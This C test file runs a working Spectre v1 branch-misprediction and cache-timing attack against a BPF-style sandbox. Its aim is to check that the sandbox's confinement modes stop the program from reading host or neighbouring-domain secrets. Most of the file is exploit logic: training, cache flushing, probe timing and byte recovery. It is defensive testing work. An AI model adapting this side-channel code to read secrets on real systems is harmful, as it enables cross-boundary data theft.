/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * Spectre v1: does a mispredicted bounds check show a program what it may not read?
 *
 * The program is the textbook's: it compares an index with a limit, loads a
 * byte at the index, and then a line of its probe map that the byte selects.
 * The host trains the branch with good indices, flushes the limit and the
 * probe from the caches, runs the program once with an index that leads to a
 * secret, and times the probe's lines through its own mapping of the pages.
 *
 * In none this recovers a secret of the host, on a CPU that can be fooled so.
 * In basereg it must not; there the same program must recover a secret in its
 * own memory behind the limit, or the test would have shown nothing.
 */
#include "attack.h"
#include "channel.h"
#include "check.h"

#if defined(__x86_64__)
#include <sched.h>
#include <sys/random.h>

#define BYTES		16	/* of secret */
#define TRIES		150	/* runs that are fooled, for each byte */
#define TRAINING	5	/* runs before each of them that are not */
#define STRIDE		4096	/* of the probe: pages of their own, which no prefetcher leaves */
#define LIMIT		16	/* good indices are below */
#define BEHIND		2048	/* the program's own secret, in the value behind the limit */
#define ENOUGH		(BYTES - 2)	/* bytes that count as a secret recovered */

/* Words of the program's data. */
enum word { INDEX, LIMIT_AT, ARRAY_AT, PROBE_AT, NR_WORDS };

static const struct bpf_insn gadget[] = {
	LDX(BPF_DW, 2, 1, 8 * INDEX),
	LDX(BPF_DW, 3, 1, 8 * LIMIT_AT),
	LDX(BPF_DW, 4, 1, 8 * ARRAY_AT),
	LDX(BPF_DW, 5, 1, 8 * PROBE_AT),
	MOV_K(0, 0),
	LDX(BPF_DW, 3, 3, 0),
	JMP_X(BPF_JGE, 2, 3, 5),	/* R3 comes from memory: until then the branch is a guess */
	ALU64_X(BPF_ADD, 4, 2),
	LDX(BPF_B, 0, 4, 0),
	ALU64_K(BPF_MUL, 0, STRIDE),
	ALU64_X(BPF_ADD, 5, 0),
	LDX(BPF_B, 0, 5, 0),
	EXIT,
};

/* The program in one mode, and the host's addresses of its maps' values. */
struct trial {
	const struct attack_variant *variant;
	struct moat_object *obj;
	struct moat_program *prog;
	struct moat_map limit, array, probe;
	u64 *limit_at;
	u8 *array_at, *probe_at;
	u64 data[NR_WORDS];
};

static struct trial trials[2 * ATTACK_VARIANTS];	/* each with a neighbour */
static u32 nr_trial;
static u8 host_secret[BYTES] __attribute__((aligned(64)));

/* The attack ------------------------------------------------------------------ */

static int run(struct trial *t, u64 index)
{
	MOAT_RUN_OPTS(opts, .data_in = t->data, .data_size_in = sizeof(t->data));

	t->data[INDEX] = index;
	return moat_program__run_opts(t->prog, &opts);
}

static void flush(struct trial *t)
{
	u32 i;

	for (i = 0; i < 256; i++)
		channel_flush(t->probe_at + i * STRIDE);
	channel_flush(t->limit_at);
}

/* Good indices, then @bad: without a branch that tells them apart, and after the same events. */
static void fool(struct trial *t, u64 bad, u32 try)
{
	u32 i;

	for (i = 0; i <= TRAINING; i++) {
		u64 is_bad = -(u64)(i == TRAINING), good = (try + i) % LIMIT;

		__asm__ volatile("" : "+r" (is_bad));
		flush(t);
		run(t, good ^ (is_bad & (bad ^ good)));
	}
}

/* How often each value's line was found in a cache after @bad. */
static void score(struct trial *t, u64 bad, const volatile u8 *warm, u32 *hits)
{
	u8 order[256];
	u32 try, i;

	memset(hits, 0, 256 * sizeof(*hits));
	for (try = 0; try < TRIES; try++) {
		(void)*warm;		/* the secret itself is in a cache, as what is in use is */
		channel_shuffle(order);
		fool(t, bad, try);
		for (i = 0; i < 256; i++)
			hits[order[i]] += channel_cached(t->probe_at + order[i] * STRIDE);
	}
}

struct found {
	u32 bytes;	/* of the secret that are right */
	u32 hits;	/* of the right values, together: of BYTES * TRIES */
	u32 others;	/* of an average wrong value */
};

/*
 * The attacker's reading of @secret, which lies @distance behind the array.
 * A byte is what was seen most, in a fifth of the tries and twice as often as anything else.
 */
static struct found recover(struct trial *t, u64 distance, const u8 *secret)
{
	struct found found = { 0 };
	u32 hits[256], i, n, all = 0;

	for (i = 0; i < BYTES; i++) {
		u32 best = 0, second = 0;

		score(t, distance + i, &secret[i], hits);
		for (n = 0; n < 256; n++) {
			all += hits[n];
			if (hits[n] > hits[best])
				best = n;
		}
		for (n = 0; n < 256; n++)
			if (n != best && hits[n] > second)
				second = hits[n];
		found.hits += hits[secret[i]];
		if (hits[best] >= TRIES / 5 && hits[best] >= 2 * second && best == secret[i])
			found.bytes++;
	}
	found.others = (all - found.hits) / 255;
	return found;
}

/* One that a busy machine disturbed is tried again; what shows a leak once is a leak. */
static struct found best_of(struct trial *t, const char *what, u64 distance, const u8 *secret)
{
	struct found best = { 0 }, f;
	u32 i;

	for (i = 0; i < 3 && best.bytes < ENOUGH; i++) {
		f = recover(t, distance, secret);
		if (f.bytes >= best.bytes)
			best = f;
	}
	printf("%-18s %-24s %2u of %d bytes; right value seen in %.1f %% of the tries, a wrong one in %.2f %%\n",
	       t->variant->name, what, best.bytes, BYTES, 100.0 * best.hits / (BYTES * TRIES),
	       100.0 * best.others / (BYTES * TRIES));
	return best;
}

/* Set-up ------------------------------------------------------------------------ */

static struct trial *start(const struct attack_variant *v)
{
	struct trial *t = &trials[nr_trial++];
	struct attack_result r = { 0 };
	u64 handle;
	u32 i;

	t->variant = v;
	t->obj = attack_load(v, &r, gadget, ARRAY_SIZE(gadget));
	if (!t->obj || attack_map(t->obj, &t->limit, BPF_MAP_TYPE_ARRAY, 4, 8, 1, &handle) ||
	    attack_map(t->obj, &t->array, BPF_MAP_TYPE_ARRAY, 4, 4096, 1, &handle) ||
	    attack_map(t->obj, &t->probe, BPF_MAP_TYPE_ARRAY, 4, 256 * STRIDE, 1, &handle))
		return NULL;
	t->prog = moat_object__next_program(t->obj, NULL);
	t->limit_at = moat_host(t->limit.heap_off);
	t->array_at = moat_host(t->array.heap_off);
	t->probe_at = moat_host(t->probe.heap_off);
	t->data[LIMIT_AT] = t->limit.heap_off;
	t->data[ARRAY_AT] = t->array.heap_off;
	t->data[PROBE_AT] = t->probe.heap_off;
	if (getrandom(t->array_at + BEHIND, BYTES, 0) != BYTES)
		return NULL;
	/* Pages of their own, zero pages shared by none, present wherever they are mapped. */
	for (i = 0; i < 256; i++)
		t->probe_at[i * STRIDE] = 1;
	*t->limit_at = 256;
	for (i = 0; i < 256; i++)
		t->array_at[i] = i;
	for (i = 0; i < 256; i++)
		if (run(t, i))
			return NULL;
	*t->limit_at = LIMIT;
	return t;
}

static bool is_mode(const struct attack_variant *v, const char *name)
{
	const char *why = NULL;

	if (!moat_mode_enforced(v->mode, &why))
		return true;
	SKIP(name, why ?: "not enforced here");
	return false;
}

/* Whom to spy on: the program itself, the host, and another domain. */
enum victim { OWN, HOST, NEIGHBOUR, NR_VICTIMS };

static void spy(struct trial *t, struct found found[NR_VICTIMS])
{
	struct trial *other = start(t->variant);

	memset(found, 0, NR_VICTIMS * sizeof(*found));
	if (!CHECK(other, "no neighbour in %s", t->variant->name))
		return;
	found[OWN] = best_of(t, "own, behind the limit", BEHIND, t->array_at + BEHIND);
	found[HOST] = best_of(t, "the host's", (u64)host_secret - t->data[ARRAY_AT], host_secret);
	found[NEIGHBOUR] = best_of(t, "another domain's", other->data[ARRAY_AT] + BEHIND - t->data[ARRAY_AT],
				   other->array_at + BEHIND);
}

/* Does the attack work where nothing stops it?  If not, a run in another mode shows nothing. */
static bool leaks_in_none(void)
{
	struct found found[NR_VICTIMS];
	struct trial *t;
	u32 i;

	if (!is_mode(&attack_variants[0], "spectre"))
		return false;
	t = start(&attack_variants[0]);
	if (!CHECK(t, "no program in none"))
		return false;
	if (!channel_calibrate(t->probe_at)) {
		SKIP("spectre", "cached and flushed accesses take the same time here");
		return false;
	}
	spy(t, found);
	for (i = 0; i < NR_VICTIMS; i++) {
		if (found[i].bytes >= ENOUGH)
			continue;
		SKIP("spectre", "this machine shows no leak in none");
		return false;
	}
	CHECK(true, "it leaks in none");
	return true;
}

static void confined(const struct attack_variant *v)
{
	static const char *const whose[] = { "its own", "the host's", "another domain's" };
	struct found found[NR_VICTIMS];
	struct trial *t;
	u32 i;

	if (!is_mode(v, v->name))
		return;
	t = start(v);
	if (!CHECK(t, "no program in %s", v->name))
		return;
	spy(t, found);
	if (found[OWN].bytes < ENOUGH) {
		SKIP(v->name, "not even the program's own memory is seen this way: it shows nothing");
		return;
	}
	for (i = HOST; i < NR_VICTIMS; i++)
		CHECK(found[i].bytes <= 1 && found[i].hits < BYTES * TRIES / 20 + 3 * found[i].others,
		      "%s: %s secret shows: %u bytes, %u hits", v->name, whose[i], found[i].bytes, found[i].hits);
}

int main(void)
{
	cpu_set_t one;
	u32 i;

	CPU_ZERO(&one);
	CPU_SET(sched_getcpu(), &one);
	sched_setaffinity(0, sizeof(one), &one);
	if (!CHECK(getrandom(host_secret, BYTES, 0) == BYTES, "no secret") || !leaks_in_none())
		return check_done();
	for (i = 1; i < ATTACK_VARIANTS; i++)
		if (attack_is_based(&attack_variants[i]))
			confined(&attack_variants[i]);
	return check_done();
}
#else
int main(void)
{
	SKIP("spectre", "flushing and timing of cache lines is written for x86, and an emulator has no caches to time");
	return check_done();
}
#endif
